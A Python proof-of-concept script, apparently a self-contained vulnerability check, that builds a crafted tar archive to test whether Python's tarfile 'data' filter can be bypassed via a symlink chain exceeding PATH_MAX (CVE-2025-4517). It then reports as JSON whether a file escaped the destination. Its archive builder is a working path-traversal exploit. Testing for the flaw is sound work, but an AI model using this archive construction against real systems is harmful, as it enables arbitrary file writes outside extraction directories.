"""CVE-2025-4517, tried for real: extract, with tarfile's `data` filter, an archive whose symlink chain resolves
past PATH_MAX, so that a vulnerable os.path.realpath stops resolving and the filter sees a path inside the
destination while the kernel follows the links out of it. Runs on its own (inside an image): prints JSON.

The archive: a folder chain of STEPS long-named folders, each reachable through a one-letter symlink; at the end
of the short path a symlink with a 254-character name pointing STEPS levels up (back to the destination); a
symlink `escape` to that link's `..` (the destination's parent, for the kernel); then a file `escape/<outside>`.
"""

from __future__ import annotations

import io
import json
import os
import sys
import tarfile
import tempfile

STEPS = "abcdefghijklmnop"


def member(tar: tarfile.TarFile, name: str, kind: bytes, target: str = "", data: bytes = b"") -> None:
    info = tarfile.TarInfo(name)
    info.type = kind
    info.mode = 0o755 if kind == tarfile.DIRTYPE else 0o644
    info.linkname = target
    info.size = len(data)
    tar.addfile(info, io.BytesIO(data) if kind == tarfile.REGTYPE else None)


def archive(dest: str, outside_name: str) -> bytes:
    """The tar of the chain for a destination of `dest`'s length."""
    path_max = os.pathconf(dest, "PC_PATH_MAX")
    folder = "d" * ((path_max - len(dest) - 1) // (len(STEPS) + 1))
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as tar:
        long_path, short_path = "", ""
        for step in STEPS:
            member(tar, os.path.join(long_path, folder), tarfile.DIRTYPE)
            member(tar, os.path.join(long_path, step), tarfile.SYMTYPE, folder)
            long_path, short_path = os.path.join(long_path, folder), os.path.join(short_path, step)
        # expanded, this link's path is past PATH_MAX: a vulnerable realpath leaves it (and what follows) as text
        last = os.path.join(short_path, "l" * 254)
        member(tar, last, tarfile.SYMTYPE, os.path.join(*[".."] * len(STEPS)))
        member(tar, "escape", tarfile.SYMTYPE, os.path.join(last, ".."))
        member(tar, f"escape/{outside_name}", tarfile.REGTYPE, data=b"written outside the destination\n")
    return buffer.getvalue()


def main() -> dict:
    with tempfile.TemporaryDirectory() as top:
        dest = os.path.join(top, "dest")
        os.mkdir(dest)
        raw = archive(dest, "pwned")
        result = {"python": sys.version.split()[0], "filter_supported": hasattr(tarfile, "data_filter")}
        try:
            with tarfile.open(fileobj=io.BytesIO(raw)) as tar:
                tar.extractall(dest, filter="data")
        except TypeError as err:  # no extraction filters at all (PEP 706 is missing)
            result["refused"] = None
            result["error"] = f"TypeError: {err}"
        except (tarfile.TarError, OSError) as err:
            result["refused"] = True
            result["error"] = f"{type(err).__name__}: {err}"
        else:
            result["refused"] = False
        result["escaped"] = os.path.exists(os.path.join(top, "pwned"))
        return result


if __name__ == "__main__":
    print(json.dumps(main()))
